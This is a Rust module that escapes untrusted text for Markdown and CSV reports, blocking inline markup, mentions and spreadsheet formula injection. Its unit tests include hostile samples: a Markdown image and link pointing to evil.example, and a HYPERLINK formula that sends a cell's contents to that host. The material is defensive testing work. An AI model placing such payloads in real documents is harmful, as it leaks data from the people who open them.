//! Text from the estate (names, titles, evidence) is data, never markup: the Markdown and CSV
//! renderers write it through these.

/// Plain Markdown text for a line or table cell: the characters that start inline markup escaped,
/// `@` written as an entity (no mention), line breaks as spaces.
pub fn md_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            // What makes inline markup: code, emphasis, links and images (`[`), HTML, tables,
            // strikethrough, entities. (`!` and `(` do nothing without a `[`; `#`, `-`, `+` only
            // at a line start, which a cell never is.)
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '~' | '&' => {
                out.push('\\');
                out.push(c);
            }
            '@' => out.push_str("&#64;"),
            '\n' | '\r' | '\t' => out.push(' '),
            _ => out.push(c),
        }
    }
    out
}

/// A code span that the text cannot leave: the fence is longer than any run of backticks in it,
/// line breaks are spaces and pipes are escaped (a table cell ends at a bare pipe even in code).
pub fn md_code(s: &str) -> String {
    let text: String = s
        .chars()
        .map(|c| {
            if matches!(c, '\n' | '\r' | '\t') {
                ' '
            } else {
                c
            }
        })
        .collect::<String>()
        .replace('|', "\\|");
    let mut longest = 0;
    let mut run = 0;
    for c in text.chars() {
        if c == '`' {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    let fence = "`".repeat(longest + 1);
    // A space on each side when the text starts or ends with a backtick (CommonMark strips one).
    let pad = if text.starts_with('`') || text.ends_with('`') {
        " "
    } else {
        ""
    };
    format!("{fence}{pad}{text}{pad}{fence}")
}

/// A CSV cell a spreadsheet will not run as a formula: one starting with `=`, `+`, `-`, `@`, a
/// tab or a carriage return gets a leading `'` (OWASP's CSV-injection guidance).
pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}").into(),
        _ => s.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn user_text_stays_text() {
        // A backtick cannot end the code span; an image, a link and a mention are inert.
        let hostile = "x` ![p](https://evil.example/t.png) [c](https://evil.example) @team";
        let code = md_code(hostile);
        assert!(code.starts_with("``") && code.ends_with("``"), "{code}");
        let plain = md_text(hostile);
        assert!(!plain.contains("!["), "{plain}");
        assert!(plain.contains("\\[c\\](https://evil.example)"), "{plain}");
        assert!(!plain.contains('@'), "{plain}");
        assert_eq!(md_code("a|b\nc"), "`a\\|b c`");
        assert_eq!(md_code("`x`"), "`` `x` ``");
    }

    #[test]
    fn formulas_are_neutralised() {
        for s in [
            "=HYPERLINK(\"https://evil.example/?x=\"&A1)",
            "+1",
            "-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert!(csv_cell(s).starts_with('\''), "{s}");
        }
        assert_eq!(csv_cell("ok"), "ok");
    }
}
